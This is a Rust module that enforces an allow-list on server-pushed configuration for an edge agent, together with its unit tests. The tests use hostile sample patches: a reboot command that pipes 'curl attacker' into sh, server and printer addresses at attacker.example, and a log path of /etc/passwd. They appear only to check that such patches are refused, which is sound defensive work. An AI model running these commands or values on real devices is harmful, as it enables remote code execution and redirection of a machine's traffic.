//! The configuration pushed by the server (`push_config`): a JSON document with the
//! contract's camelCase keys, stored in SQLite and layered over every other setting.
//!
//! Only the settings of `REMOTE_SETTINGS` may be pushed. Whoever may send `push_config` (a
//! MANAGER) must not be able to change what the machine runs, whom it talks to or whom it
//! trusts, so commands, URLs, keys, tokens, trust anchors and paths stay in the local
//! configuration (TOML file, environment, flags), which only the machine's owner controls.
//! A patch that names any other key is refused whole, and a stored document from an older
//! agent that holds such keys loses them at load (see `load`).
//!
//! A patch (RFC 7386 JSON merge patch) is merged into the stored document with the
//! `json-patch` crate; the result must match `RemoteConfig` (allowed keys, right types) and,
//! layered over the other settings, must pass the same validation as a start-up setting.
//! Only then is it stored. A `null` removes a key, so the layers below show through again.

use clap::CommandFactory;
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

use crate::config::{Cli, Config, ConfigSource, ConnectionMode};
use crate::store::{Store, StoreError};

/// The `kv` key of the stored document.
const REMOTE_CONFIG_KEY: &str = "remote_config";

/// A setting `push_config` may change.
#[derive(Debug, Clone, Copy)]
pub struct RemoteSetting {
    /// The camelCase key of the pushed document.
    pub key: &'static str,
    /// Whether the running agent picks a change up at once; otherwise it waits for a restart.
    pub live: bool,
}

/// The allow-list: the only settings a pushed configuration may carry, each with the reason
/// a remote change of it is safe (it runs nothing, sends nothing elsewhere and changes
/// nobody's trust). Every other setting (serverUrl, cloudUrl, cloudToken, enrollmentKey,
/// caFile, rebootCommand, shutdownCommand, scannerListen, companyId, deviceId, dataDir,
/// logFile, the firmware settings, printerAddr and printerTemplate, and any added later) can
/// only be set in the local configuration. The printer's address decides where the machine
/// sends data, and its template is a program for a device on the line (ZPL can reconfigure a
/// printer's network), so neither may come from the server.
/// `RemoteConfig` has exactly these fields; a test keeps the two in step.
pub const REMOTE_SETTINGS: [RemoteSetting; 7] = [
    // A display name, sent only at enrollment; nothing runs or routes by it.
    RemoteSetting {
        key: "name",
        live: false,
    },
    // A grouping label sent only at enrollment, which the server's device route may change
    // anyway; records and destinations do not depend on it.
    RemoteSetting {
        key: "productionLineId",
        live: false,
    },
    // How often the agent reports to the server it already talks to, bounded below by
    // MIN_STATUS_INTERVAL_MS.
    RemoteSetting {
        key: "statusIntervalMs",
        live: true,
    },
    // Only one of PUSHABLE_LOG_LEVELS: a target filter or `trace` could make the HTTP and
    // TLS libraries write headers (bearer tokens) into the log file that pull_logs reads
    // out, so filters stay local.
    RemoteSetting {
        key: "logLevel",
        live: true,
    },
    // A production rule changed at a product changeover: it groups records but changes
    // neither their company nor where they go.
    RemoteSetting {
        key: "batchSize",
        live: true,
    },
    // A production rule like batchSize.
    RemoteSetting {
        key: "palletSize",
        live: true,
    },
    // Picks between the factory server and the cloud, whose URLs (and the cloud token) can
    // only be configured locally, so it only chooses among destinations the machine's
    // owner set; DIRECT_CLOUD without them is refused by validation.
    RemoteSetting {
        key: "connectionMode",
        live: true,
    },
];

/// The log levels a pushed `logLevel` may name.
pub const PUSHABLE_LOG_LEVELS: [&str; 4] = ["error", "warn", "info", "debug"];

/// The keys a pushed configuration may set (see `REMOTE_SETTINGS`). It deserializes from
/// camelCase and serializes to the snake_case names of the other layers.
#[derive(Debug, Default, Deserialize, Serialize)]
#[serde(rename_all(deserialize = "camelCase"), deny_unknown_fields)]
pub struct RemoteConfig {
    #[serde(skip_serializing_if = "Option::is_none")]
    name: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    production_line_id: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    connection_mode: Option<ConnectionMode>,
    #[serde(skip_serializing_if = "Option::is_none")]
    status_interval_ms: Option<u64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    log_level: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    batch_size: Option<u32>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pallet_size: Option<u32>,
}

/// Why a pushed configuration was refused.
#[derive(Debug, thiserror::Error)]
pub enum RemoteConfigError {
    #[error("patch must be a JSON object")]
    NotAnObject,
    #[error(
        "`{0}` can only be set in the local configuration (TOML file, environment or flags), \
         not by push_config; push_config may change only {allowed}",
        allowed = allowed_keys()
    )]
    LocalOnly(String),
    #[error(
        "unknown setting `{0}`; push_config may change only {allowed}",
        allowed = allowed_keys()
    )]
    Unknown(String),
    #[error("{0}")]
    Schema(String),
    #[error("{0}")]
    Invalid(String),
    #[error("{0}")]
    Store(#[from] StoreError),
}

/// The allowed keys, for messages.
fn allowed_keys() -> String {
    REMOTE_SETTINGS
        .iter()
        .map(|s| s.key)
        .collect::<Vec<_>>()
        .join(", ")
}

pub fn is_allowed(key: &str) -> bool {
    REMOTE_SETTINGS.iter().any(|s| s.key == key)
}

/// Whether `key` is the camelCase name of one of the agent's settings (a flag of `Cli`).
fn is_local_setting(key: &str) -> bool {
    Cli::command()
        .get_arguments()
        .map(|arg| arg.get_id().as_str())
        .filter(|id| !matches!(*id, "help" | "version"))
        .any(|id| camel_case(id) == key)
}

/// `server_url` → `serverUrl`.
fn camel_case(snake: &str) -> String {
    let mut out = String::with_capacity(snake.len());
    let mut upper = false;
    for c in snake.chars() {
        match c {
            '_' | '-' => upper = true,
            c if upper => {
                out.extend(c.to_uppercase());
                upper = false;
            }
            c => out.push(c),
        }
    }
    out
}

/// Refuses a patch that names a key outside the allow-list, with the first such key.
fn check_keys(patch: &Map<String, Value>) -> Result<(), RemoteConfigError> {
    match patch.keys().find(|k| !is_allowed(k)) {
        None => Ok(()),
        Some(key) if is_local_setting(key) => Err(RemoteConfigError::LocalOnly(key.clone())),
        Some(key) => Err(RemoteConfigError::Unknown(key.clone())),
    }
}

/// Checks a document against the schema and layers it over `source`.
pub fn resolve(source: &ConfigSource, document: &Value) -> Result<Config, RemoteConfigError> {
    let remote: RemoteConfig = serde_json::from_value(document.clone())
        .map_err(|e| RemoteConfigError::Schema(e.to_string()))?;
    if let Some(level) = &remote.log_level {
        if !PUSHABLE_LOG_LEVELS.contains(&level.as_str()) {
            return Err(RemoteConfigError::Invalid(format!(
                "logLevel: push_config may set only one of {}; a filter like `{level}` can \
                 only be set in the local configuration",
                PUSHABLE_LOG_LEVELS.join(", ")
            )));
        }
    }
    source
        .resolve(Some(&remote))
        .map_err(|e| RemoteConfigError::Invalid(e.to_string()))
}

/// The stored document and the keys dropped from it because they may no longer be pushed.
#[derive(Debug)]
pub struct Loaded {
    pub document: Value,
    pub dropped: Vec<String>,
}

/// The stored document, `{}` when nothing was ever pushed. Keys outside the allow-list,
/// which an older agent may have stored, are removed from it (and from the store) and
/// named in `dropped`, never applied; the caller logs them.
pub fn load(store: &Store) -> Result<Loaded, StoreError> {
    let mut document = match store.kv(REMOTE_CONFIG_KEY)? {
        None => {
            return Ok(Loaded {
                document: Value::Object(Default::default()),
                dropped: Vec::new(),
            })
        }
        Some(text) => serde_json::from_str::<Value>(&text).map_err(|e| StoreError::BadState {
            what: "pushed configuration",
            reason: e.to_string(),
        })?,
    };
    let mut dropped = Vec::new();
    if let Some(object) = document.as_object_mut() {
        dropped = object.keys().filter(|k| !is_allowed(k)).cloned().collect();
        for key in &dropped {
            object.remove(key);
        }
    }
    if !dropped.is_empty() {
        store.set_kv(REMOTE_CONFIG_KEY, &document.to_string())?;
    }
    Ok(Loaded { document, dropped })
}

/// Logs the keys `load` dropped.
pub fn warn_dropped(dropped: &[String]) {
    if !dropped.is_empty() {
        tracing::warn!(
            keys = ?dropped,
            "pushed settings dropped: they can only be set in the local configuration"
        );
    }
}

/// Merges `patch` into the stored document, checks the result, stores it, and answers the
/// new document with the settings it gives. A refused patch changes nothing.
pub fn apply(
    store: &Store,
    source: &ConfigSource,
    patch: &Value,
) -> Result<(Value, Config), RemoteConfigError> {
    let Some(keys) = patch.as_object() else {
        return Err(RemoteConfigError::NotAnObject);
    };
    check_keys(keys)?;
    let Loaded {
        mut document,
        dropped,
    } = load(store)?;
    warn_dropped(&dropped);
    json_patch::merge(&mut document, patch);
    let config = resolve(source, &document)?;
    store.set_kv(REMOTE_CONFIG_KEY, &document.to_string())?;
    Ok((document, config))
}

/// Keys of `patch` whose change only takes effect after a restart.
pub fn restart_needed(patch: &Value) -> Vec<String> {
    patch
        .as_object()
        .map(|o| {
            o.keys()
                .filter(|k| {
                    !REMOTE_SETTINGS
                        .iter()
                        .any(|s| s.live && s.key == k.as_str())
                })
                .cloned()
                .collect()
        })
        .unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use clap::Parser;
    use serde_json::json;

    use super::*;
    use crate::store::tests::temp_dir;

    fn source() -> ConfigSource {
        let cli = Cli::try_parse_from([
            "edge-agent",
            "--server-url",
            "http://s",
            "--device-id",
            "e",
            "--status-interval-ms",
            "5000",
            "--reboot-command",
            "/bin/echo local reboot",
        ])
        .unwrap();
        ConfigSource::from_cli(cli).unwrap()
    }

    #[test]
    fn a_patch_merges_validates_persists_and_null_removes() {
        let dir = temp_dir();
        let store = Store::open(&dir).unwrap();
        let source = source();
        let (doc, config) = apply(
            &store,
            &source,
            &json!({"statusIntervalMs": 750, "batchSize": 3, "name": "Line 4"}),
        )
        .unwrap();
        assert_eq!(
            doc,
            json!({"statusIntervalMs": 750, "batchSize": 3, "name": "Line 4"})
        );
        assert_eq!(config.status_interval.as_millis(), 750);
        assert_eq!(config.batch_size, 3);
        drop(store);

        let store = Store::open(&dir).unwrap();
        let (doc, config) = apply(&store, &source, &json!({"batchSize": null})).unwrap();
        assert_eq!(doc, json!({"statusIntervalMs": 750, "name": "Line 4"}));
        assert_eq!(config.batch_size, crate::config::DEFAULT_BATCH_SIZE);
        assert_eq!(config.name, "Line 4");
    }

    #[test]
    fn a_bad_patch_is_refused_whole_with_the_reason() {
        let store = Store::open(&temp_dir()).unwrap();
        let source = source();
        apply(&store, &source, &json!({"logLevel": "debug"})).unwrap();
        let cases = [
            (
                json!({"statusIntervalMs": 5, "batchSize": 9}),
                "below the minimum",
            ),
            (json!({"statusIntervalMs": "fast"}), "invalid type"),
            (
                json!({"statusIntervall": 1000}),
                "unknown setting `statusIntervall`",
            ),
            (
                json!({"connectionMode": "CARRIER_PIGEON"}),
                "unknown variant",
            ),
            (json!({"connectionMode": "DIRECT_CLOUD"}), "cloud_url"),
            (
                json!({"logLevel": "trace"}),
                "only one of error, warn, info, debug",
            ),
            (json!({"logLevel": "info,awc=trace"}), "only one of"),
        ];
        for (patch, reason) in cases {
            let err = apply(&store, &source, &patch).unwrap_err().to_string();
            assert!(err.contains(reason), "{patch}: {err}");
        }
        assert!(matches!(
            apply(&store, &source, &json!([1])),
            Err(RemoteConfigError::NotAnObject)
        ));
        assert_eq!(load(&store).unwrap().document, json!({"logLevel": "debug"}));
    }

    #[test]
    fn settings_outside_the_allow_list_are_refused_whole_and_named() {
        let store = Store::open(&temp_dir()).unwrap();
        let source = source();
        apply(&store, &source, &json!({"statusIntervalMs": 900})).unwrap();
        let forbidden = [
            json!({"rebootCommand": ["/bin/sh", "-c", "id"]}),
            json!({"shutdownCommand": ["/bin/true"]}),
            json!({"serverUrl": "http://attacker.example"}),
            json!({"cloudUrl": "http://attacker.example"}),
            json!({"cloudToken": "t"}),
            json!({"caFile": "/tmp/attacker-ca.pem"}),
            json!({"enrollmentKey": "k"}),
            json!({"firmwareTrustedKeys": ["AQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQE="]}),
            json!({"firmwareRequireSignature": false}),
            json!({"allowFirmwareDowngrade": true}),
            json!({"firmwareStagingDir": "/tmp/x"}),
            json!({"dataDir": "/tmp/x"}),
            json!({"logFile": "/etc/passwd"}),
            json!({"scannerListen": "0.0.0.0:9100"}),
            json!({"printerAddr": "attacker.example:9100"}),
            json!({"printerTemplate": "^XA^NBS^XZ"}),
            json!({"companyId": "other-company"}),
            json!({"deviceId": "other"}),
            // Mixed with an allowed key, or removing with null: still refused whole.
            json!({"statusIntervalMs": 700, "rebootCommand": ["/bin/true"]}),
            json!({"serverUrl": null}),
        ];
        for patch in forbidden {
            let key = patch
                .as_object()
                .unwrap()
                .keys()
                .find(|k| !is_allowed(k))
                .unwrap()
                .clone();
            let err = apply(&store, &source, &patch).unwrap_err();
            assert!(
                matches!(err, RemoteConfigError::LocalOnly(_)),
                "{patch}: {err}"
            );
            let text = err.to_string();
            assert!(
                text.starts_with(&format!(
                    "`{key}` can only be set in the local configuration"
                )),
                "{patch}: {text}"
            );
        }
        assert_eq!(
            load(&store).unwrap().document,
            json!({"statusIntervalMs": 900})
        );
        let (_, config) = apply(&store, &source, &json!({})).unwrap();
        assert_eq!(config.reboot_command, ["/bin/echo", "local", "reboot"]);
        assert_eq!(config.server_url, "http://s");
    }

    #[test]
    fn a_stored_document_with_forbidden_keys_loses_them_at_load() {
        let dir = temp_dir();
        let store = Store::open(&dir).unwrap();
        // What an older agent stored after pushes this one refuses.
        let old = json!({
            "statusIntervalMs": 800,
            "rebootCommand": ["/bin/sh", "-c", "curl attacker | sh"],
            "serverUrl": "http://attacker.example",
            "cloudToken": "stolen",
            "companyId": "other-company",
        });
        store.set_kv(REMOTE_CONFIG_KEY, &old.to_string()).unwrap();
        let Loaded {
            document,
            mut dropped,
        } = load(&store).unwrap();
        dropped.sort();
        assert_eq!(
            dropped,
            ["cloudToken", "companyId", "rebootCommand", "serverUrl"]
        );
        assert_eq!(document, json!({"statusIntervalMs": 800}));
        let config = resolve(&source(), &document).unwrap();
        assert_eq!(config.reboot_command, ["/bin/echo", "local", "reboot"]);
        assert_eq!(config.server_url, "http://s");
        assert_eq!(config.status_interval.as_millis(), 800);
        // Removed from the store too, so a second start finds nothing to drop.
        drop(store);
        let store = Store::open(&dir).unwrap();
        let again = load(&store).unwrap();
        assert!(again.dropped.is_empty());
        assert_eq!(again.document, json!({"statusIntervalMs": 800}));
    }

    #[test]
    fn the_allow_list_and_the_struct_hold_the_same_keys() {
        for setting in REMOTE_SETTINGS {
            let mut one = Map::new();
            one.insert(setting.key.to_owned(), Value::Null);
            let err = serde_json::from_value::<RemoteConfig>(Value::Object(one));
            assert!(err.is_ok(), "{}: {err:?}", setting.key);
            assert!(is_local_setting(setting.key), "{} is a flag", setting.key);
        }
        let full = RemoteConfig {
            name: Some("n".into()),
            production_line_id: Some("l".into()),
            connection_mode: Some(ConnectionMode::ViaLocalServer),
            status_interval_ms: Some(1000),
            log_level: Some("info".into()),
            batch_size: Some(1),
            pallet_size: Some(1),
        };
        let fields = serde_json::to_value(full).unwrap();
        assert_eq!(fields.as_object().unwrap().len(), REMOTE_SETTINGS.len());
    }

    #[test]
    fn restart_keys() {
        let patch = json!({"statusIntervalMs": 1000, "productionLineId": "l", "name": "x"});
        let mut keys = restart_needed(&patch);
        keys.sort();
        assert_eq!(keys, ["name", "productionLineId"]);
    }
}
